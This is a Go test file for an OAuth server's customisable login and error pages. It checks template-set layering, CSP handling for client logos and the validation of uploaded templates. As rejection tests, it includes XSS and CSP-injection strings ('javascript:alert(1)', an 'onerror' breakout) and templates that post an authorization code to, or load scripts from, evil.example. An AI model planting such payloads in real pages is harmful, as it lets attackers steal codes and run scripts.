package pages_test

import (
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/labstack/echo/v4"

	"tokenserver/internal/audittest"
	"tokenserver/internal/pages"
)

// folder writes files and returns where.
func folder(t *testing.T, contents map[string]string) string {
	t.Helper()
	root := t.TempDir()
	for name, content := range contents {
		path := filepath.Join(root, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o750); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return root
}

const errorPage = `{{define "page"}}{{with .Page}}
<h1>%s {{$.T "error.title"}}</h1><p>{{$.T .Text}}</p><code>{{.Code}}</code><i>{{.TransactionID}}</i>
{{end}}{{end}}
`

func ownErrorPage(mark string) string { return strings.Replace(errorPage, "%s", mark, 1) }

// shown renders pages of a request with a look.
func shown(t *testing.T, p *pages.Pages, look pages.Look, path string) audittest.Answer {
	t.Helper()
	h := audittest.New(t).Handler(p.Routes, func(g *echo.Group) {
		wearing := func(render func(c echo.Context) error) echo.HandlerFunc {
			return func(c echo.Context) error {
				pages.Wear(c, look)
				return render(c)
			}
		}
		g.GET("/error", wearing(func(c echo.Context) error {
			return p.Error(c, http.StatusBadRequest, pages.Error{Language: "nl", Code: "<b>", Text: "error.request"})
		}))
		g.GET("/signin", wearing(func(c echo.Context) error {
			return p.SignIn(c, http.StatusOK, pages.SignIn{Language: "en", ClientName: "Bank", Action: "/x"})
		}))
	})
	return audittest.Do(t, h, audittest.Request{Method: http.MethodGet, Path: "/oauth" + path})
}

// TestTemplateSets: the client's set comes before the default one, and that before the built-in pages, file by file.
func TestTemplateSets(t *testing.T) {
	p, err := pages.Open(audittest.Issuer, folder(t, map[string]string{
		"harbour/templates/error.html": ownErrorPage("Harbour"),
		"harbour/page.css":             ":root { --accent: #006644; }",
		"harbour/logo.svg":             `<svg xmlns="http://www.w3.org/2000/svg"/>`,
		"town/templates/error.html":    ownErrorPage("Town"),
		"town/texts/nl.json":           `{"error.title": "Dat ging mis", "footer": "Gemeente"}`,
		"town/page.css":                "h1 { color: red; }",
		".hidden/what":                 "ever",
		"town/.swp":                    "x",
	}))
	if err != nil {
		t.Fatal(err)
	}
	if got := p.Sets(); !slices.Equal(got, []string{"harbour", "town"}) {
		t.Errorf("sets %v", got)
	}
	for _, tc := range []struct {
		name   string
		look   pages.Look
		heads  string // the heading of the Dutch error page
		styles int
		brand  bool
		footer string
	}{
		{"none", pages.Look{}, "Dit is niet gelukt", 1, false, "Veilig inloggen"},
		{"unknown", pages.Look{Set: "gone"}, "Dit is niet gelukt", 1, false, "Veilig inloggen"},
		{"client's", pages.Look{Set: "harbour"}, "Harbour Dit is niet gelukt", 2, true, "Veilig inloggen"},
		{"default", pages.Look{Default: "town"}, "Town Dat ging mis", 2, false, "Gemeente"},
		{"client's over default", pages.Look{Set: "harbour", Default: "town"}, "Harbour Dat ging mis", 3, true, "Gemeente"},
		{"both the same", pages.Look{Set: "town", Default: "town"}, "Town Dat ging mis", 2, false, "Gemeente"},
		{"unknown over default", pages.Look{Set: "gone", Default: "town"}, "Town Dat ging mis", 2, false, "Gemeente"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			for range 2 { // made, and remembered
				a := shown(t, p, tc.look, "/error")
				styles := regexp.MustCompile(`rel="stylesheet" href="([^"]*)"`).FindAllStringSubmatch(a.Body, -1)
				if !strings.Contains(a.Body, "<h1>"+tc.heads+"</h1>") || len(styles) != tc.styles || strings.Contains(a.Body, "/pages/logo.") != tc.brand ||
					!strings.Contains(a.Body, tc.footer) || strings.Contains(a.Body, "<b>") {
					t.Errorf("%s", a.Body)
				}
				for _, m := range styles {
					if a := shown(t, p, tc.look, strings.TrimPrefix(m[1], "/oauth")); a.Status != http.StatusOK || a.Header.Get("X-Content-Type-Options") != "nosniff" {
						t.Errorf("%s: %d", m[1], a.Status)
					}
				}
			}
		})
	}
	logo := regexp.MustCompile(`/pages/logo\.[^"]*`).FindString(shown(t, p, pages.Look{Set: "harbour"}, "/error").Body)
	if a := shown(t, p, pages.Look{}, logo); a.Status != 200 || a.Header.Get("Content-Type") != "image/svg+xml" || !strings.Contains(a.Header.Get("Content-Security-Policy"), "sandbox") {
		t.Errorf("logo %q: %d %v", logo, a.Status, a.Header)
	}
}

// TestLogoOfAClient: a picture comes from the one origin of its address, and from nowhere else.
func TestLogoOfAClient(t *testing.T) {
	p, err := pages.New(audittest.Issuer)
	if err != nil {
		t.Fatal(err)
	}
	for logo, source := range map[string]string{
		"":                                   "img-src 'self';",
		"https://cdn.example:8443/a.png":     "img-src 'self' https://cdn.example:8443;",
		"http://cdn.example/a.png":           "img-src 'self';",
		"https://a.example; script-src */":   "img-src 'self';",
		"javascript:alert(1)":                "img-src 'self';",
		"https://cdn.example/\"onerror=\"x(": "img-src 'self' https://cdn.example;",
	} {
		a := shown(t, p, pages.Look{Logo: logo}, "/signin")
		if policy := a.Header.Get("Content-Security-Policy"); !strings.Contains(policy, source) || strings.Contains(policy, "script-src") {
			t.Errorf("%q: %s", logo, policy)
		}
		if has := strings.Contains(a.Body, "<img"); has != strings.Contains(source, "cdn.example") || strings.Contains(a.Body, `" onerror`) || strings.Contains(a.Body, `"onerror`) {
			t.Errorf("%q: %s", logo, a.Body)
		}
	}
}

// TestTemplateSetProblems: everything wrong is said at once, with file and line.
func TestTemplateSetProblems(t *testing.T) {
	for name, tc := range map[string]struct {
		files map[string]string
		want  []string // each a file, a line and a part of the complaint
	}{
		"syntax": {
			map[string]string{"s/templates/error.html": "{{define \"page\"}}\n{{if}}\n{{end}}{{end}}"}, []string{"s/templates/error.html:2: missing value for if"},
		},
		"unknown field": {
			map[string]string{"s/templates/error.html": "{{define \"page\"}}{{with .Page}}\n\n{{.Cose}}{{end}}{{end}}"}, []string{"s/templates/error.html:3:2: executing", "Cose"},
		},
		"no page": {
			map[string]string{"s/templates/error.html": "<p>hello</p>"}, []string{`s/templates/error.html:1: defines no template "page"`},
		},
		"layout without its name": {
			map[string]string{"s/templates/layout.html": `{{define "frame"}}x{{end}}`}, []string{`s/templates/layout.html:1: defines no template "layout"`},
		},
		"lost field": {
			map[string]string{"s/templates/consent.html": `{{define "page"}}{{with .Page}}<form method="post" action="{{.Action}}"><button name="decision" value="accept">x</button></form>{{end}}{{end}}`},
			[]string{`s/templates/consent.html:1: lacks the field "t", which the server waits for`},
		},
		"form to elsewhere": {
			map[string]string{"s/templates/post.html": `{{define "page"}}{{with .Page}}<form id="answer" action="https://evil.example/"><input type="hidden" name="code" value="x"></form>{{end}}{{end}}`},
			[]string{`s/templates/post.html:1: lacks the form to "https://client.example/back?code=x"`},
		},
		"what the policy forbids": {
			map[string]string{
				"s/templates/error.html": "{{define \"page\"}}{{with .Page}}\n<p onclick=\"x()\">\n<p style='color: red'>\n<style>p {}</style>\n<script>x()</script>\n<script src=\"https://evil.example/x.js\"></script>\n" +
					"<img src=\"https://evil.example/x.png\"><iframe src=\"/\"></iframe>\n{{end}}{{end}}",
				"s/page.css": "@import url(https://evil.example/x.css);\nh1 { background: url('//evil.example/x.png'); }",
			},
			[]string{
				"s/templates/error.html:2: an event attribute does not run", "s/templates/error.html:3: a style attribute has no effect",
				"s/templates/error.html:4: a style inside the page has no effect", "s/templates/error.html:5: ", "s/templates/error.html:6: ",
				"s/templates/error.html:7: nothing of another server is loaded", "s/templates/error.html:7: this element is not loaded",
				"s/page.css:1: nothing is imported", "s/page.css:2: nothing of another server is loaded",
			},
		},
		"texts": {
			map[string]string{
				"s/texts/nl.json": "{\n\"footer\": \"x\",\n\"foter\": \"x\",\n\"signin.lead\": \"geen plek\",\n\"own.hello\": \"hallo\"\n}",
				"s/texts/de.json": "{\n\"footer\": \"x\"\n\"a\": 1}",
				"s/texts/fr.json": "{\"footer\": \"a\",\n\n\"footer\": \"b\"}",
				"s/texts/en.json": "{\n\n\"footer\": 1}",
			},
			[]string{
				`s/texts/nl.json:3: "foter" is no text of a page`, `s/texts/nl.json:4: "signin.lead" wants the placeholders ["%s"]`, "s/texts/de.json:3: ",
				`s/texts/fr.json:3: "footer" is there twice`, `s/texts/en.json:3: "footer" is no text`,
			},
		},
		"own text that one language lacks": {
			map[string]string{
				"s/templates/error.html": `{{define "page"}}{{$.T "own.hello"}}{{end}}`,
				"s/texts/nl.json":        `{"own.hello": "hallo"}`,
			},
			[]string{`s/templates/error.html:1:`, `no text "own.hello" in en`},
		},
		"what does not belong there": {
			map[string]string{
				"s/templates/eror.html": "x", "s/templates/error.htm": "x", "s/texts/it.json": "{}", "s/logo.gif": "x", "s/readme.md": "x", "file": "x", "white space/page.css": "",
			},
			[]string{
				"s/templates/eror.html: is no page", "s/templates/error.htm: is no page", "s/texts/it.json: is no language", "s/logo.gif: is no file of a template set",
				"s/readme.md: is no file of a template set", "file: is no folder of a template set", "white space: the name of a template set",
			},
		},
	} {
		t.Run(name, func(t *testing.T) {
			root := folder(t, tc.files)
			_, err := pages.Open(audittest.Issuer, root)
			if err == nil {
				t.Fatal("no complaint")
			}
			for _, want := range tc.want {
				if !strings.Contains(err.Error(), want) {
					t.Errorf("no %q in:\n%v", want, err)
				}
			}
			for _, line := range strings.Split(err.Error(), "\n") {
				if !strings.Contains(line, root) && !strings.Contains(line, "executing") && !strings.Contains(line, "is no JSON object") {
					t.Errorf("this line does not say which file: %s", line)
				}
			}
		})
	}
	if _, err := pages.Open(audittest.Issuer, filepath.Join(t.TempDir(), "nowhere")); err == nil || !strings.Contains(err.Error(), "nowhere") {
		t.Errorf("no folder: %v", err)
	}
	outside := folder(t, map[string]string{"secret.css": "h1 {}"})
	root := folder(t, map[string]string{"s/templates/error.html": ownErrorPage("x")})
	if err := os.Symlink(filepath.Join(outside, "secret.css"), filepath.Join(root, "s", "page.css")); err != nil {
		t.Fatal(err)
	}
	if _, err := pages.Open(audittest.Issuer, root); err == nil || !strings.Contains(err.Error(), "page.css") {
		t.Errorf("a link that leads outside: %v", err)
	}
}

// TestTheBuiltInPagesAreATemplateSet: whoever copies them all gets no complaint.
func TestTheBuiltInPagesAreATemplateSet(t *testing.T) {
	files := map[string]string{}
	for _, name := range pages.Templates() {
		content, err := os.ReadFile(filepath.Join("templates", name+".html"))
		if err != nil {
			t.Fatal(err)
		}
		files["copy/templates/"+name+".html"] = string(content)
	}
	for _, language := range pages.Languages() {
		content, err := os.ReadFile(filepath.Join("texts", language+".json"))
		if err != nil {
			t.Fatal(err)
		}
		files["copy/texts/"+language+".json"] = string(content)
	}
	style, err := os.ReadFile("assets/page.css")
	if err != nil {
		t.Fatal(err)
	}
	files["copy/page.css"] = string(style)
	if _, err := pages.Open(audittest.Issuer, folder(t, files)); err != nil {
		t.Error(err)
	}
}
